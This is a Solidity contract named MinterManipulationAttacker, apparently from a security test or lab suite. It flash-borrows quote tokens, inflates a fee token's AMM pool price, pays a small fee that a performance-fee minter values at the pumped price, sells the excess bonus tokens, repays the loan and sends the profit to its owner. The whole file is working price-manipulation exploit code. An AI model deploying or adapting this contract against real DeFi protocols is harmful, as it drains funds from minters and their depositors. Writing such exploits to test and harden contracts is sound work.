// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";
import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";
import {PairSwapper} from "../shared/PairSwapper.sol";
import {IPerformanceFeeMinter} from "./IPerformanceFeeMinter.sol";

/// @title MinterManipulationAttacker
/// @notice In one flash loan: pumps the fee token's pool, pays a small fee the minter values at the
/// pumped price, sells the fee tokens left back, dumps the bonus minted into the bonus token's pool,
/// repays, and hands the quote tokens to its owner.
contract MinterManipulationAttacker is FlashLoanAttacker, PairSwapper {
    using SafeERC20 for IERC20;

    IPerformanceFeeMinter public immutable minter;
    IERC20 public immutable quoteToken;
    IERC20 public immutable feeToken;
    IERC20 public immutable bonusToken;
    /// @notice feeToken / quoteToken.
    IUniswapV2Pair public immutable feePair;
    /// @notice bonusToken / quoteToken.
    IUniswapV2Pair public immutable bonusPair;

    constructor(
        IERC3156FlashLender lender_,
        IPerformanceFeeMinter minter_,
        IERC20 quoteToken_,
        IERC20 feeToken_,
        IERC20 bonusToken_,
        IUniswapV2Pair feePair_,
        IUniswapV2Pair bonusPair_
    ) FlashLoanAttacker(lender_) {
        minter = minter_;
        quoteToken = quoteToken_;
        feeToken = feeToken_;
        bonusToken = bonusToken_;
        feePair = feePair_;
        bonusPair = bonusPair_;
    }

    /// @notice Flash-borrows `loan` quote tokens and pays a fee of `feeAmount` fee tokens at the top.
    function attack(uint256 loan, uint256 feeAmount) external onlyOwner {
        lender.flashLoan(this, address(quoteToken), loan, abi.encode(feeAmount));
        quoteToken.safeTransfer(owner, quoteToken.balanceOf(address(this)));
    }

    function _useLoan(uint256 amount, bytes calldata data) internal override {
        uint256 feeAmount = abi.decode(data, (uint256));
        uint256 bought = _sellIntoPair(feePair, quoteToken, amount);
        feeToken.forceApprove(address(minter), feeAmount);
        uint256 minted = minter.mintFor(feeAmount, address(this));
        _sellIntoPair(feePair, feeToken, bought - feeAmount);
        _sellIntoPair(bonusPair, bonusToken, minted);
    }
}
